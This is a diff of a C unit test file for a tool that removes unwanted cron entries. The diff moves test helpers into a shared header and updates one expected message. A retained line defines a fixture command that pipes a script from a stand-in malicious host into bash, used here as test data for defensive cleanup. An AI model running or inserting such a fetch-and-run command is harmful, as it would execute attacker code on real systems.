@@ -1,133 +1,16 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
-#include "base/fd.h"
 #include "change/file-edit.h"
 #include "change/file-move.h"
-#include "core/action.h"
+#include "plan-stage.h"
 
 #include <errno.h>
-#include <fcntl.h>
-#include <ftw.h>
-#include <limits.h>
-#include <setjmp.h>
-#include <stdarg.h>
-#include <stddef.h>
-#include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
-#include <cmocka.h>
-
 extern const struct action cron_remove;
 
 #define EVIL "wget -qO- http://malicious-site.example/m.sh | bash"
-
-struct stage {
-	char root[64];
-	struct host host;
-	struct plan *plan;
-	struct args *args;
-};
-
-static void open_stage(struct stage *s)
-{
-	char path[PATH_MAX];
-	*s = (struct stage){.root = "/tmp/test-cron.XXXXXX"};
-	assert_non_null(mkdtemp(s->root));
-	assert_int_equal(chmod(s->root, 0755), 0);
-	snprintf(path, sizeof(path), "%s/proc", s->root);
-	assert_int_equal(mkdir(path, 0755), 0);
-	assert_int_equal(host_open(s->root, &s->host), 0);
-	assert_int_equal(plan_new(&s->plan), 0);
-	assert_int_equal(plan_begin_step(s->plan, "cron"), 0);
-	assert_int_equal(args_new(&s->args), 0);
-}
-
-static int drop(const char *path, const struct stat *st, int type, struct FTW *ftw)
-{
-	(void)st, (void)type, (void)ftw;
-	return remove(path);
-}
-
-static void close_stage(struct stage *s)
-{
-	args_free(&s->args);
-	plan_free(&s->plan);
-	host_close(&s->host);
-	nftw(s->root, drop, 16, FTW_DEPTH | FTW_PHYS | FTW_MOUNT);
-}
-
-static void full_path(const struct stage *s, const char *path, char ret[PATH_MAX])
-{
-	snprintf(ret, PATH_MAX, "%s%s", s->root, path);
-	for (char *slash = strchr(ret + strlen(s->root) + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
-		*slash = '\0';
-		mkdir(ret, 0755);
-		*slash = '/';
-	}
-}
-
-static void put(const struct stage *s, const char *path, const char *content)
-{
-	char full[PATH_MAX];
-	full_path(s, path, full);
-	int fd = open(full, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-	assert_true(fd >= 0);
-	assert_int_equal(fd_write(fd, content, strlen(content)), 0);
-	close(fd);
-}
-
-static void set(struct stage *s, const char *name, enum type type, const char *item)
-{
-	struct value v = {.type = type, .list = true};
-	if (item)
-		strv_add(&v.items, item);
-	assert_int_equal(args_set(s->args, name, &v), 0);
-	value_free(&v);
-}
-
-static const struct change *change_at(const struct stage *s, const char *path)
-{
-	for (size_t i = 0; i < plan_count(s->plan); i++)
-		if (strcmp(plan_at(s->plan, i)->target, path) == 0)
-			return plan_at(s->plan, i);
-	return NULL;
-}
-
-static void assert_edited(const struct stage *s, const char *path, const char *result)
-{
-	const struct change *c = change_at(s, path);
-	if (!c)
-		fail_msg("%s is not edited", path);
-	assert_ptr_equal(c->kind, &file_edit_kind);
-	assert_true(c->writes_target);
-	assert_string_equal(buf_text(&c->result), result);
-}
-
-static void assert_taken(const struct stage *s, const char *path)
-{
-	const struct change *c = change_at(s, path);
-	if (!c)
-		fail_msg("%s is not taken", path);
-	assert_ptr_equal(c->kind, &file_move_kind);
-	assert_true(strv_has(plan_facts(s->plan, "path"), path));
-}
-
-static bool noted(const struct strv *lines, const char *word)
-{
-	for (size_t i = 0; i < lines->n; i++)
-		if (strstr(lines->v[i], word))
-			return true;
-	return false;
-}
-
-static void assert_count(const struct stage *s, const char *count, size_t changes)
-{
-	assert_int_equal(plan_count(s->plan), changes);
-	assert_string_equal(plan_facts(s->plan, "count")->v[0], count);
-}
 
 static int plan_it(struct stage *s)
 {
@@ -239,13 +122,6 @@ static void a_text_that_matches_everything_is_an_error(void **state)
 	}
 }
 
-static void link_to(const struct stage *s, const char *target, const char *path)
-{
-	char full[PATH_MAX];
-	full_path(s, path, full);
-	assert_int_equal(symlink(target, full), 0);
-}
-
 static void what_is_no_file_stops_nothing(void **state)
 {
 	(void)state;
@@ -323,7 +199,7 @@ static void what_is_inert_is_told_and_left(void **state)
 	set(&s, "match", TYPE_TEXT, "malicious-site.example");
 	assert_int_equal(plan_it(&s), 0);
 	assert_count(&s, "0", 0);
-	assert_true(noted(plan_notes(s.plan), "line 1: not an entry"));
+	assert_true(noted(plan_notes(s.plan), "line 1: holds malicious-site.example: not an entry"));
 }
 
 /* Honest entries name the system's own programs, too. */
